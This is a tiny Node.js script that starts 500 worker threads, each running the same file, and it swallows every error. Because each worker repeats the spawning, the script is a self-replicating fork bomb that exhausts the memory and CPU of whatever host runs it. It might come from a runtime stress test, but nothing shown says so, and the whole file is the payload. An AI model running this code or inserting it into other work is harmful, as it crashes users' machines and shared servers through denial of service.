const { Worker } = require("node:worker_threads");
const again = () => {
  try {
    new Worker(__filename).on("error", () => {});
  } catch {}
};
for (let i = 0; i < 500; i++) again();
